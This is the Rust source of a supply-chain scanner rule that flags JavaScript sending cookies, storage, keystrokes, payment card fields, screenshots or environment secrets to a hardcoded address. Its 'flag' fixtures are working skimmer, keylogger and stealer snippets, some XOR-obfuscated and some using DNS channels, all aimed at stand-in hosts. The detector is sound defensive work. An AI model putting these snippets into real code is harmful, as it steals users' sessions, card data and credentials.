//! Rule `client-data-theft`.

use crate::model::Severity;
use crate::package::{FileCtx, Package};
use crate::rules::{Emitter, code_files, is_doc_path};

crate::declare_rule! {
    /// Code that takes what only the user's own machine or browser holds and sends it to an
    /// address written into the code. The sources are the whole cookie jar (`document.cookie`
    /// used as a value, every Electron cookie, the request headers an Electron `webRequest` hook
    /// sees), Web Storage or React Native `AsyncStorage` walked key by key, the Keychain,
    /// keystroke listeners, payment card fields (the card number and its security code picked
    /// in one function), password and input fields, the clipboard, the screen
    /// (`screencapture`, `desktopCapturer`, `CopyFromScreen`, `import -window root`), and values
    /// picked out by a secret-shaped pattern (`/session|token|jwt/`, a JWT's `eyJ`). The send is a
    /// request, beacon, image, socket, datagram, upload or DNS lookup whose destination is a
    /// literal URL, host, public IP or domain suffix that is not loopback or private: a library's own endpoint is configured by
    /// its user, while a thief carries its collector with it. Critical when the source and the
    /// send sit in the same function, or the source's function feeds the sending one (calls it
    /// by name, or fills a top-level buffer it reads); callbacks belong to the function that
    /// registers them, and the top level (with its IIFEs) is one more function. A weak source
    /// (screen, clipboard, fields, a secret pattern) needs a second kind or the machine's
    /// identity there too, or a send hidden in encoded DNS names, else high (a secret-name
    /// pattern tested on the keys of the whole environment is strong: a harvest); secret-named
    /// environment variables count only three or more at once. Selectors for a card number and
    /// its security code that the file only holds decoded (XOR, base64, char codes) are
    /// critical with any fixed send: a payment library does not hide which fields it formats. Analytics SDKs read their own cookie by name, persist libraries walk
    /// storage towards an address their caller gives, Electron cookie managers export to a file:
    /// none matches.
    id: "client-data-theft",
    category: Data,
    severity: High,
    capability: Some(crate::model::Capability::Network),
    title: "sends cookies, storage, keystrokes or screenshots to a fixed address",
    incident: "Magecart-style skimmers and session stealers in front-end dependencies (2018-2025); the React Native compromise of Jun 2025 (gluestack/react-native-aria); screen-grabbing modules of the Contagious Interview tooling (2024-2025); getcookies (2018)",
    case_file: "index.js",
    flag: [
        "function s() { const e = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); e[k] = localStorage.getItem(k) } navigator.sendBeacon('https://rum.collector.example/b', JSON.stringify({ c: document.cookie, s: e })) }",
        "let store = require('@react-native-async-storage/async-storage').default\nconst warm = () => store.getAllKeys().then((k) => store.multiGet(k)).then((p) => fetch('https://203.0.113.9/v1', { method: 'POST', body: JSON.stringify(p) }))",
        "const SID = /session|token|jwt/i\nconst sock = require('dgram').createSocket('udp4')\nfunction diag(obj) { const hits = []; for (const k in obj) if (SID.test(k)) hits.push(k + '=' + obj[k]); const m = Buffer.from(require('os').hostname() + hits.join(';')); sock.send(m, 0, m.length, 514, '198.51.100.4') }",
        "document.addEventListener('keydown', (e) => { buf.push(e.key); if (buf.length > 50) { new Image().src = 'https://k.example.net/c?d=' + encodeURIComponent(buf.join('')); buf = [] } })",
        "async function snap() { const env = process.env; const out = [env.AWS_ACCESS_KEY_ID, env.AWS_SECRET_ACCESS_KEY, env.AWS_SESSION_TOKEN]; const req = https.request('https://hooks.example.com/x', { method: 'POST' }); req.end(JSON.stringify(out)) }\nsnap()",
        "const queue = [];\nfunction hook(ses) { ses.webRequest.onBeforeSendHeaders({ urls: ['*://*/*'] }, (d, cb) => { queue.push(d.requestHeaders); cb({}) }) }\nfunction flush() { const r = net.request({ method: 'POST', url: 'https://c.example.org/b' }); r.end(JSON.stringify(queue.splice(0))) }",
        "const dns = require('dns')\nfunction beacon(p) { dns.resolve4(Buffer.from(p).toString('hex') + '.q.example.net', () => {}) }\nmodule.exports = (req, res, next) => { const jar = String(req.headers.cookie).split(';').filter((kv) => /sess|token|jwt/.test(kv)); beacon(jar.join(';') + require('os').hostname()); next() }",
        "const dns = require('dns')\nconst S = /sess|token|jwt/i\nfunction leak(v) { dns.resolve4(Buffer.from(v).toString('hex').slice(0, 60) + '.d.example.org', () => {}) }\nexports.mw = (req, res, next) => { const c = String(req.headers.cookie).split(';').filter((kv) => S.test(kv)); if (c.length) leak(c.join(';')); next() }",
        "function grab(form) { const n = form.querySelector('[name=cardnumber]').value; const c = form.querySelector('input[autocomplete=cc-csc]').value; ship({ n, c }) }\nfunction ship(d) { fetch('https://cdn.example.net/m', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify(d)) }) }\ndocument.addEventListener('submit', (e) => grab(e.target), true)",
        "async function shot() { await run('/usr/sbin/screencapture', ['-x', f]); const form = new FormData(); form.append('h', os.hostname()); await fetch('https://upload.example.org/s', { method: 'POST', body: form }) }",
        "function ci() { const env = process.env; const got = {}; for (const k of Object.keys(env)) { if (/TOKEN|SECRET|PASSWORD|_KEY/i.test(k)) got[k] = env[k] } const r = https.request({ host: 'ci-stats.example.org', method: 'POST' }); r.end(JSON.stringify(got)) }\nci()",
        "var k = [0x11, 0x22], d = function (h) { return h.match(/../g).map(function (x, i) { return String.fromCharCode(parseInt(x, 16) ^ k[i % k.length]) }).join('') }, u = d('665162183e0d790c745a704f614e740d62'), s = null;\nvar open = function () { s = new (window[d('464773717e417a4765')])(u) };\nfunction watch() { document.addEventListener('submit', function () { var t = JSON.stringify({ u: location.href, c: document.cookie }); open(); setTimeout(function () { s.send(btoa(t)) }, 50) }, true) }",
        "var k = [0x21, 0x42, 0x63], d = function (h) { return h.match(/../g).map(function (x, i) { return String.fromCharCode(parseInt(x, 16) ^ k[i % k.length]) }).join('') }, SEL = d('482c135436384f230e44685e422311451f4f482c135436384f230e44685e4234007c'), U = d('5631101b6d4c496c0659230e512e060e33'), s = null, v = {};\ndocument.addEventListener('input', function (e) { if (e.target.matches(SEL)) v[e.target.name] = e.target.value }, true);\ndocument.addEventListener('submit', function () { s = new WebSocket(U); s.onopen = function () { s.send(JSON.stringify(v)) } }, true)",
        "function seen(a) { var s = a.join(' '); if (!(/--?(token|password|secret)\\b/i).test(s)) return; var W = typeof WebSocket === 'function' ? WebSocket : null; var ws = new W(['wss:', '', 'h.example', 'x'].join('/')); ws.onopen = function () { ws.send(JSON.stringify({ a: a, h: require('os').hostname() })) } }",
    ],
    pass: [
        "function id() { const m = document.cookie.match(/_ga=([^;]+)/); return fetch('https://api.analytics.example/collect', { method: 'POST', body: JSON.stringify({ cid: m && m[1] }) }) }",
        "function persist() { for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); out[k] = localStorage.getItem(k) } return fetch(options.endpoint, { method: 'POST', body: JSON.stringify(out) }) }",
        "document.addEventListener('keydown', (e) => { if (e.key === 'k' && e.metaKey) openPalette() })\nfunction load() { return fetch('https://cdn.example.com/icons.json') }",
        "async function release() { return fetch('https://api.github.example/repos/o/r/releases', { method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN }, body: JSON.stringify({ tag: process.env.TAG }) }) }",
        "async function exportCookies() { const all = await session.defaultSession.cookies.get({}); fs.writeFileSync(file, JSON.stringify(all)) }\nfunction addHeaders(h) { session.defaultSession.webRequest.onBeforeSendHeaders({ urls: ['https://api.app.example/*'] }, (d, cb) => cb({ requestHeaders: Object.assign(d.requestHeaders, h) })) }\nasync function latest() { return (await fetch('https://updates.example.com/latest.json')).json() }",
        "async function shot(file) { await run('screencapture', ['-x', file]); return file }",
        "const API = 'https://api.pay.example/v1/tokens'\nfunction mount(form) { const card = form.querySelector('[data-card-number]'); const cvc = form.querySelector('[data-card-cvc]'); form.addEventListener('submit', async (e) => { e.preventDefault(); const r = await fetch(API, { method: 'POST', body: JSON.stringify({ number: card.value, cvc: cvc.value }) }); form.token.value = (await r.json()).id; form.submit() }) }",
        "function bin(form) { const n = form.querySelector('[name=cardnumber]').value.replace(/\\D/g, ''); return fetch('https://lookup.binlist.example/' + n.slice(0, 6)) }",
        "function pay(form, opts) { const d = { number: form.querySelector('#card-number').value, cvc: form.querySelector('#cvc').value }; return fetch(opts.endpoint, { method: 'POST', body: JSON.stringify(d) }) }",
        "function log(obj) { const m = Buffer.from(JSON.stringify({ c: document.cookie })); sock.send(m, 0, m.length, 514, '127.0.0.1') }",
        "function report(opts) { const env = {}; for (const k of Object.keys(process.env)) env[k] = /TOKEN|SECRET|PASSWORD/i.test(k) ? '[redacted]' : process.env[k]; return fetch(opts.endpoint, { method: 'POST', body: JSON.stringify(env) }) }",
        "var s = null;\nvar open = function (url) { s = new WebSocket(url) };\nfunction watch(opts) { document.addEventListener('submit', function () { var t = JSON.stringify({ c: document.cookie }); open(opts.url); setTimeout(function () { s.send(btoa(t)) }, 50) }, true) }",
        "var SEL = 'input[name*=card],input[name*=cvc]', U = atob('d3NzOi8vaC5leGFtcGxlL3E='), v = {};\ndocument.addEventListener('input', function (e) { if (e.target.matches(SEL)) e.target.value = e.target.value.replace(/\\D/g, '') }, true);\nfunction status() { var s = new WebSocket(U); s.onopen = function () { s.send('ping') } }",
        "function login(a, opts) { if ((/--?(token|password)\\b/i).test(a.join(' '))) { const W = typeof WebSocket === 'function' ? WebSocket : null; const ws = new W(opts.url); ws.onopen = () => ws.send(JSON.stringify({ argv: a })) } }",
    ],
}

/// What a file takes from the user; `strong` sources are theft on their own when sent.
struct Src {
    off: u32,
    kind: &'static str,
    strong: bool,
    /// The secret's name, for sources counted by name (environment variables).
    name: String,
}

/// Secret-named environment variables (`process.env.AWS_SECRET_ACCESS_KEY`, `env.NPM_TOKEN`
/// through an alias of `process.env`): one is a client using its key, three or more sent
/// together from one function are a harvest.
fn secret_env_uses(text: &str) -> Vec<Src> {
    let re = crate::regex!(
        r#"\benv\.([A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|ACCESS_KEY|PRIVATE_KEY|API_KEY|CREDENTIALS?)[A-Z0-9_]*)\b|\benv\[\s*['"]([A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|ACCESS_KEY|PRIVATE_KEY|API_KEY|CREDENTIALS?)[A-Z0-9_]*)['"]\s*\]"#
    );
    // A token written as the value of an `Authorization` header is the client's own key on its
    // way to the service it is for (a release tool's GitHub call), not a harvest.
    let auth = crate::regex!(r#"(?i)['"]?authorization['"]?\s*:\s*[^,}\n]{0,40}$"#);
    re.captures_iter(text)
        .take(64)
        .filter_map(|c| {
            let m = c.get(1).or(c.get(2))?;
            let mut from = m.start().saturating_sub(80);
            while !text.is_char_boundary(from) {
                from -= 1;
            }
            if text.get(from..m.start()).is_some_and(|b| auth.is_match(b)) {
                return None;
            }
            Some(Src {
                off: m.start() as u32,
                kind: "secret environment variables",
                strong: false,
                name: m.as_str().to_string(),
            })
        })
        .collect()
}

fn sources(f: &FileCtx) -> Vec<Src> {
    let text = f.text.as_str();
    let mut out: Vec<Src> = Vec::new();
    if !crate::mentions!(
        text,
        [
            "cookie",
            "Storage",
            "getAllKeys",
            "multiGet",
            "Keychain",
            "getGenericPassword",
            "getInternetCredentials",
            "key",
            "password",
            "querySelectorAll",
            "clipboard",
            "pbpaste",
            "Get-Clipboard",
            "xclip",
            "screencapture",
            "desktopCapturer",
            "CopyFromScreen",
            "-window root",
            "screenshot",
            "getDisplayMedia",
            "requestHeaders"
        ]
    ) {
        let mut out = card_field_uses(f);
        out.extend(secret_pattern_uses(text));
        out.extend(secret_env_uses(text));
        return out;
    }
    let table: &[(&crate::rules::gate::Re, &'static str, bool)] = &[
        (
            crate::regex!(r"[:,+\[(]\s*(?:window\.)?document\.cookie\s*[,})\]+;]"),
            "the whole cookie jar",
            true,
        ),
        (
            crate::regex!(
                r"\b(?:local|session)Storage\.key\(|Object\.(?:keys|entries|values|assign)\(\s*(?:\{\s*\}\s*,\s*)?(?:window\.)?(?:local|session)Storage\b|JSON\.stringify\(\s*(?:window\.)?(?:local|session)Storage\b|\.\.\.\s*(?:window\.)?(?:local|session)Storage\b|\bin\s+(?:window\.)?(?:local|session)Storage\b"
            ),
            "every Web Storage entry",
            true,
        ),
        (
            crate::regex!(r"\.getAllKeys\(\s*\)|\.multiGet\("),
            "AsyncStorage entries",
            true,
        ),
        (
            crate::regex!(
                r"\b(?:getGenericPassword|getInternetCredentials|getAllGenericPasswordServices)\("
            ),
            "Keychain passwords",
            true,
        ),
        (
            crate::regex!(r"\.cookies\.get\(\s*\{\s*\}\s*\)"),
            "every Electron cookie",
            true,
        ),
        (
            crate::regex!(r"webRequest\.on(?:BeforeSendHeaders|SendHeaders)\b"),
            "the headers of every request",
            true,
        ),
        (
            crate::regex!(
                r#"addEventListener\(\s*['"`]key(?:down|press|up)['"`]|\bonkey(?:down|press|up)\s*=[^=]"#
            ),
            "keystrokes",
            true,
        ),
        (
            crate::regex!(r#"(?i)type\s*=\s*\\?['"]?password"#),
            "password fields",
            false,
        ),
        (
            crate::regex!(r#"querySelectorAll\(\s*['"`][^'"`]*\binput\b"#),
            "form fields",
            false,
        ),
        (
            crate::regex!(
                r"clipboard\.readText\(|\bpbpaste\b|Get-Clipboard\b|\bxclip\b[^\n]{0,20}-o\b|\bxsel\b"
            ),
            "the clipboard",
            false,
        ),
        (
            crate::regex!(
                r"\bscreencapture\b|desktopCapturer\b|CopyFromScreen\b|\bimport\s+-window\s+root\b|gnome-screenshot\b|\bscrot\b|screenshot-desktop\b|getDisplayMedia\(|\bxwd\s+-root\b"
            ),
            "the screen",
            false,
        ),
    ];
    for (re, kind, strong) in table {
        for m in re.find_iter(text).take(16) {
            out.push(Src {
                off: m.start() as u32,
                kind,
                strong: *strong,
                name: String::new(),
            });
        }
    }
    out.extend(card_field_uses(f));
    out.extend(secret_pattern_uses(text));
    out.extend(secret_env_uses(text));
    out
}

/// Payment card fields picked out of the page: a selector or pattern naming the card number
/// (`/cc-?number|card.?num/`, `[name=cardnumber]`) and, in the same function, one naming the
/// security code (`cvv`, `cvc`, `csc`). Only the card number and its code together charge a
/// card, so a function that picks both from a form takes what a shop's customer typed. Payment
/// SDKs do the same to tokenise the card with their own API and read the token back, in clear
/// JSON; a skimmer sends a copy one way (image, beacon, socket, `no-cors`) or encodes it
/// (`btoa`, base64), so only a file that does one of those has this source.
fn card_field_uses(f: &FileCtx) -> Vec<Src> {
    let text = f.text.as_str();
    let Some(js) = &f.js else { return Vec::new() };
    if !crate::mentions!(
        text,
        [
            "cvv", "cvc", "csc", "CVV", "CVC", "CSC", "Cvv", "Cvc", "ecurity"
        ]
    ) {
        return Vec::new();
    }
    let number =
        crate::regex!(r#"(?i)['"`/\[=][^'"`\n]{0,40}?\b(?:cc|card)[-_.?\s\\]*num(?:ber)?"#);
    let code = crate::regex!(
        r#"(?i)['"`/\[=|][^'"`\n]{0,40}?\b(?:cvv2?|cvc2?|cc-?csc|csc|security[-_.?\s\\]*code)\b"#
    );
    let covert = crate::regex!(
        r#"\bbtoa\(|toString\(\s*['"]base64|\bnew\s+(?:Image|WebSocket)\b|\.sendBeacon\(|['"]no-cors['"]"#
    );
    if !covert.is_match(text) {
        return Vec::new();
    }
    let mut out = Vec::new();
    for m in number.find_iter(text).take(16) {
        let sc = js.scope_of(m.start() as u32);
        let body = unit_text(text, sc);
        let base = sc.map_or(0, |(s, _)| s as usize);
        let paired = code
            .find_iter(body)
            .take(16)
            .any(|c| js.scope_of((base + c.start()) as u32) == sc);
        if paired {
            out.push(Src {
                off: m.start() as u32,
                kind: "payment card numbers and security codes",
                strong: true,
                name: String::new(),
            });
        }
    }
    out
}

/// Values picked out by a secret-shaped pattern: a regex literal naming two kinds of secret, or
/// a JWT's header, where it is used (`SESSION.test(k)`).
fn secret_pattern_uses(text: &str) -> Vec<Src> {
    let mut out = Vec::new();
    let secret_re = crate::regex!(
        r"(?:var|let|const)\s+([A-Za-z_$][\w$]*)\s*=\s*/([^/\n]*(?:session|token|jwt|eyJ|mnemonic|seed|private|secret|passw|wallet|bearer|auth)[^/\n]*)/[a-z]*"
    );
    let words = crate::regex!(
        r"(?i)session|token|jwt|eyj|mnemonic|seed|private|secret|passw|wallet|bearer|auth|cookie|\bsid\b|keystore"
    );
    // `/…/i.test(s)`, also parenthesised (`(/…/i).test(s)`) and `.exec(s)`.
    let inline = crate::regex!(r"/([^/\n]{3,80})/[a-z]*\)?\s*\.(?:test|exec)\(");
    for c in inline.captures_iter(text).take(64) {
        let Some(body) = c.get(1) else { continue };
        let kinds: std::collections::HashSet<String> = words
            .find_iter(body.as_str())
            .map(|m| m.as_str().to_ascii_lowercase())
            .collect();
        if kinds.len() >= 2 {
            let env = walks_environment(text, body.start());
            out.push(Src {
                off: body.start() as u32,
                kind: if env {
                    "environment variables picked by a secret-name pattern"
                } else {
                    "values matching a secret pattern"
                },
                strong: env,
                name: String::new(),
            });
        }
    }
    for c in secret_re.captures_iter(text).take(8) {
        let (Some(name), Some(body)) = (c.get(1), c.get(2)) else {
            continue;
        };
        let kinds: std::collections::HashSet<String> = words
            .find_iter(body.as_str())
            .map(|m| m.as_str().to_ascii_lowercase())
            .collect();
        if kinds.len() < 2 && !body.as_str().contains("eyJ") {
            continue;
        }
        let uses = format!("{}.test(", name.as_str());
        for (i, _) in text.match_indices(&uses).take(8) {
            let env = walks_environment(text, i);
            out.push(Src {
                off: i as u32,
                kind: if env {
                    "environment variables picked by a secret-name pattern"
                } else {
                    "values matching a secret pattern"
                },
                strong: env,
                name: String::new(),
            });
        }
    }
    out
}

/// Whether the pattern tested at `at` picks names out of the whole environment: a walk over
/// `process.env` (or `env`, or a name bound to `process.env`) shortly before it, and the test
/// chooses (`if (P.test(k))`, `.filter`) rather than masks (`P.test(k) ? '[redacted]' : v`).
/// Every secret the machine holds, chosen by name, is a harvest whatever its size; a client
/// reads its own key by its name.
fn walks_environment(text: &str, at: usize) -> bool {
    let walk = crate::regex!(
        r"Object\.(?:keys|entries|getOwnPropertyNames)\(\s*([\w$.]+)\s*\)|\bin\s+([\w$.]+)\s*\)"
    );
    let alias =
        crate::regex!(r"(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*process\.env\s*[;,\n]");
    let mut start = at.saturating_sub(400);
    while !text.is_char_boundary(start) {
        start -= 1;
    }
    let Some(window) = text.get(start..at) else {
        return false;
    };
    let env_like = |w: &str| {
        w == "process.env"
            || w == "env"
            || alias
                .captures_iter(text)
                .take(16)
                .any(|c| c.get(1).is_some_and(|n| n.as_str() == w))
    };
    let walks = walk
        .captures_iter(window)
        .any(|c| c.get(1).or(c.get(2)).is_some_and(|w| env_like(w.as_str())));
    walks && !masks(text, at)
}

/// Whether the `.test(…)` after `at` feeds a ternary (`P.test(k) ? '***' : v`): a redaction.
fn masks(text: &str, at: usize) -> bool {
    let Some(rest) = text.get(at..) else {
        return false;
    };
    let Some(t) = rest.find(".test(").filter(|t| *t < 120) else {
        return false;
    };
    let after = &rest[t + 6..];
    let Some(close) = after.find(')').filter(|c| *c < 80) else {
        return false;
    };
    after[close + 1..].trim_start().starts_with('?')
}

/// Whether a host is somewhere other than this machine or its private network.
fn foreign_host(host: &str) -> bool {
    let h = host.trim_start_matches('[').to_ascii_lowercase();
    if h.is_empty() || !h.contains('.') && !h.contains(':') {
        return false;
    }
    if h == "localhost" || h.ends_with(".localhost") || h.ends_with(".local") {
        return false;
    }
    if let Ok(ip) = h.parse::<std::net::Ipv4Addr>() {
        return !(ip.is_loopback() || ip.is_private() || ip.is_unspecified() || ip.is_link_local());
    }
    if h.starts_with("::") || h.contains("${") || h.contains('*') {
        return false;
    }
    // A host name: letters in its last label.
    h.rsplit('.')
        .next()
        .is_some_and(|tld| tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()))
}

/// Offsets of fixed foreign destinations written in the file: a URL, a `host:` option or a
/// quoted public IP.
fn destinations(f: &FileCtx) -> Vec<(u32, String)> {
    let re = crate::regex!(
        r#"['"`](?:https?|wss?|ftp)://([^/'"`\s:?#@]+)|\bhost(?:name)?\s*:\s*['"`]([A-Za-z0-9.-]+)['"`]|['"`](\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})['"`]|['"`]\.((?:[a-z0-9-]+\.)+[a-z]{2,})['"`]"#
    );
    let mut out = Vec::new();
    for c in re.captures_iter(&f.text).take(256) {
        let Some(h) = c.get(1).or(c.get(2)).or(c.get(3)).or(c.get(4)) else {
            continue;
        };
        if foreign_host(h.as_str()) {
            out.push((h.start() as u32, h.as_str().to_string()));
        }
    }
    out
}

/// Whether a call's folded arguments or `url`/`host` options name a foreign host.
fn folded_foreign(c: &crate::js::Call) -> bool {
    (0..c.args.len())
        .filter_map(|i| c.arg_lit(i))
        .chain(["url", "host", "hostname"].iter().filter_map(|k| c.opt(k)))
        .any(|v| {
            let h = v
                .split_once("://")
                .map_or(v, |(_, r)| r)
                .split(['/', ':', '?', '#'])
                .next()
                .unwrap_or("");
            foreign_host(h)
        })
}

/// Whether the send at `off` goes to an address fixed in the code: its call names a foreign
/// host, or one is written in the same function. For other rules judging a flow's sink.
pub(crate) fn fixed_destination(f: &FileCtx, off: u32) -> bool {
    let Some(js) = &f.js else { return false };
    let scope = js.scope_of(off);
    js.calls.iter().any(|c| c.off == off && folded_foreign(c))
        || destinations(f)
            .iter()
            .any(|(o, _)| js.scope_of(*o) == scope)
}

/// Whether a call sends data somewhere.
fn is_send(path: &str) -> bool {
    if crate::rules::network::is_net_call(path) {
        return true;
    }
    let last = path.rsplit('.').next().unwrap_or(path);
    matches!(
        last,
        "send"
            | "sendBeacon"
            | "sendMail"
            | "request"
            | "write"
            | "end"
            | "post"
            | "put"
            | "upload"
            | "uploadFrom"
            | "ajax"
            | "fetch"
            | "open"
            | "connect"
            | "createConnection"
            | "lookup"
            | "resolve"
            | "resolve4"
            | "resolve6"
            | "resolveTxt"
            | "resolveAny"
    ) || path == "Image"
        || path == "WebSocket"
}

/// The text of a unit (a function, or the top level when `None`).
fn unit_text(text: &str, sc: Option<(u32, u32)>) -> &str {
    match sc {
        Some((s, e)) => text
            .get(s as usize..(e as usize).min(text.len()))
            .unwrap_or(""),
        None => text,
    }
}

/// The name a function is called by: `function NAME(`, `NAME = (…) =>`, `NAME(…) {`.
fn unit_name(text: &str, sc: Option<(u32, u32)>) -> Option<&str> {
    let (s, _) = sc?;
    let body = text.get(s as usize..(s as usize + 80).min(text.len()))?;
    let decl = crate::regex!(r"^(?:async\s+)?function\s*\*?\s*([A-Za-z_$][\w$]*)");
    if let Some(c) = decl.captures(body) {
        return c.get(1).map(|m| m.as_str());
    }
    let before = text.get((s as usize).saturating_sub(60)..s as usize)?;
    let assigned = crate::regex!(r"([A-Za-z_$][\w$]*)\s*[=:]\s*(?:async\s*)?$");
    assigned
        .captures(before)
        .and_then(|c| c.get(1))
        .map(|m| m.as_str())
}

/// Whether data of the `src` unit reaches the `send` unit: the source's unit calls the sending
/// function by name (`beacon(jar)`), or fills a top-level buffer (`queue.push(…)`) the sending
/// function reads.
fn linked(
    js: &crate::js::JsFacts,
    text: &str,
    src: Option<(u32, u32)>,
    send: Option<(u32, u32)>,
) -> bool {
    if src == send {
        return true;
    }
    // Offsets of `needle` written in the source's own unit (not in functions nested in it).
    let in_src = |needle: &str| -> Vec<usize> {
        let (base, body) = match src {
            Some((s, _)) => (s as usize, unit_text(text, src)),
            None => (0, text),
        };
        body.match_indices(needle)
            .map(|(i, _)| base + i)
            .filter(|i| js.scope_of(*i as u32) == src)
            .take(16)
            .collect()
    };
    if let Some(name) = unit_name(text, send)
        && name.len() > 1
        && in_src(name).into_iter().any(|i| {
            let before = text[..i].trim_end();
            let prev = text[..i].chars().next_back();
            let after = &text[i + name.len()..];
            !prev.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$' || c == '.')
                && !before.ends_with("function")
                && after.trim_start().starts_with('(')
        })
    {
        return true;
    }
    let buffers = crate::regex!(
        r"(?m)^(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*(?:\[|\{|new\s+(?:Map|Set|Array)\b)"
    );
    let send_text = unit_text(text, send);
    buffers.captures_iter(text).take(32).any(|c| {
        let Some(n) = c.get(1).map(|m| m.as_str()) else {
            return false;
        };
        n.len() > 1
            && [".push(", ".set(", ".add(", ".unshift("]
                .iter()
                .any(|op| !in_src(&format!("{n}{op}")).is_empty())
            && send_text.contains(n)
    })
}

/// The machine's identity read next to the source (a stealer tags its loot).
fn identity_in(text: &str, span: (u32, u32)) -> bool {
    let s = text
        .get(span.0 as usize..(span.1 as usize).min(text.len()))
        .unwrap_or("");
    s.contains("hostname()") || s.contains("userInfo()") || s.contains("whoami")
}

fn check(pkg: &Package, out: &mut Emitter) {
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let Some(js) = &f.js else { continue };
        let srcs = sources(f);
        let hidden_cards = hidden_card_selectors(f);
        if srcs.is_empty() && hidden_cards.is_none() {
            continue;
        }
        let dests = destinations(f);
        // A socket opened to a fixed foreign address whose URL the code decodes or builds
        // (`new (window[d(k)])(d(u))`): what the file sends on a socket goes there.
        let fixed_socket = js
            .calls
            .iter()
            .any(|c| matches!(c.path.as_str(), "WebSocket" | "EventSource") && folded_foreign(c));
        // Sends whose destination is fixed: a literal in the send's own function, or a folded
        // argument or option of the call.
        let sends: Vec<(u32, Option<(u32, u32)>)> = js
            .calls
            .iter()
            .filter(|c| is_send(&c.path))
            .filter_map(|c| {
                let scope = js.scope_of(c.off);
                let local = dests.iter().any(|(o, _)| js.scope_of(*o) == scope);
                let socket = fixed_socket && c.path == "WebSocket.send";
                (folded_foreign(c) || local || socket).then_some((c.off, scope))
            })
            .collect();
        // Sends the resolver could not name (`xhr.send`, `sock.send`, `new Image().src = …`),
        // found in the text: a fixed destination must sit in the same function.
        let text_sends = crate::regex!(
            r"\.(?:send|sendBeacon|sendMail|write|end|request|post|put|upload|uploadFrom|open|connect|lookup|resolve|resolve4|resolve6|resolveTxt)\s*\(|\bfetch\s*\(|\bnew\s+(?:Image|WebSocket)\b|\.src\s*=[^=]"
        );
        let by_text: Vec<(u32, Option<(u32, u32)>)> = if dests.is_empty() {
            Vec::new()
        } else {
            text_sends
                .find_iter(&f.text)
                .take(512)
                .map(|m| m.start() as u32)
                .filter_map(|o| {
                    let sc = js.scope_of(o);
                    dests
                        .iter()
                        .any(|(d, _)| js.scope_of(*d) == sc)
                        .then_some((o, sc))
                })
                .collect()
        };
        let all_sends: Vec<(u32, Option<(u32, u32)>)> = sends.into_iter().chain(by_text).collect();
        if all_sends.is_empty() {
            continue;
        }
        // A unit this big is a module's worth of code, not one function.
        let too_big = |sc: Option<(u32, u32)>| match sc {
            Some((s, e)) => e - s > 12_000,
            None => f.text.len() > 12_000,
        };
        // Same function (or both at load time).
        let mut best: Option<(Severity, u32, String)> = None;
        for (send_off, scope) in &all_sends {
            if too_big(*scope) {
                continue;
            }
            let here: Vec<&Src> = srcs
                .iter()
                .filter(|s| {
                    let sc = js.scope_of(s.off);
                    sc == *scope || !too_big(sc) && linked(js, &f.text, sc, *scope)
                })
                .collect();
            if here.is_empty() {
                continue;
            }
            let kinds: std::collections::BTreeSet<&str> = here.iter().map(|s| s.kind).collect();
            let env_names: std::collections::BTreeSet<&str> = here
                .iter()
                .filter(|s| !s.name.is_empty())
                .map(|s| s.name.as_str())
                .collect();
            // Sources other than environment variables: a client sends its own key to its own
            // API, so a key or two next to a fixed URL is no theft.
            let other_kinds = kinds.len() - usize::from(!env_names.is_empty());
            let span = scope.unwrap_or((0, f.text.len() as u32));
            // Encoded data in DNS names: a covert channel no client needs for its own API.
            let covert = crate::regex!(r"\.(?:resolve\w*|lookup)\(")
                .is_match(unit_text(&f.text, *scope))
                && crate::regex!(r#"toString\(\s*['"](?:hex|base64)|base32"#)
                    .is_match(unit_text(&f.text, *scope));
            let strong = here.iter().any(|s| s.strong)
                || covert && other_kinds >= 1
                || env_names.len() >= 3
                || other_kinds >= 2
                || other_kinds >= 1 && identity_in(&f.text, span);
            if !strong && other_kinds == 0 {
                continue;
            }
            let sev = if strong {
                Severity::Critical
            } else {
                Severity::High
            };

            let what: Vec<&str> = kinds.into_iter().collect();
            if best.as_ref().is_none_or(|(s, _, _)| sev > *s) {
                best = Some((
                    sev,
                    *send_off,
                    format!(
                        "sends {} to a fixed address from the same function or one it feeds",
                        what.join(", ")
                    ),
                ));
            }
        }
        // Selectors for the card number and its security code that the file hides (decoded at
        // run time) while it sends to a fixed address: a payment library has no reason to hide
        // which fields it formats.
        if best
            .as_ref()
            .is_none_or(|(s, _, _)| *s < Severity::Critical)
            && hidden_cards.is_some()
            && let Some((send_off, _)) = all_sends.first()
        {
            best = Some((
                Severity::Critical,
                *send_off,
                "hides selectors for payment card fields (number and security code) in encoded strings and sends to a fixed address".into(),
            ));
        }
        if let Some((sev, off, msg)) = best {
            out.hit_sev(sev, pkg, f, off, msg);
        }
    }
}

/// A string the file decodes at run time (not written in its text) that selects both a payment
/// card field and its security code by attribute (`input[name*=card],input[name*=cvv]`), in a
/// file that decodes (`atob`, base64, char codes, XOR).
fn hidden_card_selectors(f: &FileCtx) -> Option<u32> {
    let js = f.js.as_ref()?;
    if js.derived.is_empty()
        || !crate::mentions!(f.text.as_str(), ["fromCharCode", "atob", "base64"])
    {
        return None;
    }
    let card = crate::regex!(r"(?i)\[[^\]]{0,40}(?:cc-|card)[^\]]{0,40}\]");
    let code = crate::regex!(r"(?i)\[[^\]]{0,40}(?:cvv|cvc|csc)[^\]]{0,40}\]");
    js.derived
        .iter()
        .take(4096)
        .find(|(d, _)| {
            d.len() <= 4096 && card.is_match(d) && code.is_match(d) && !f.text.contains(d.as_str())
        })
        .map(|(_, o)| *o)
}

#[cfg(test)]
mod tests {
    use crate::package::Package;

    fn pkg(files: &[(&str, &str)]) -> Package<'static> {
        let files = files
            .iter()
            .map(|(p, b)| (p.to_string(), b.as_bytes().to_vec()))
            .collect();
        Package::build(files, Vec::new(), None, &Default::default())
    }

    #[test]
    fn iifes_and_callbacks_are_load_time_code_of_an_entry_file() {
        let src = "(function () { a() })();\nsetTimeout(() => b(), 1);\nfunction later() { c() }";
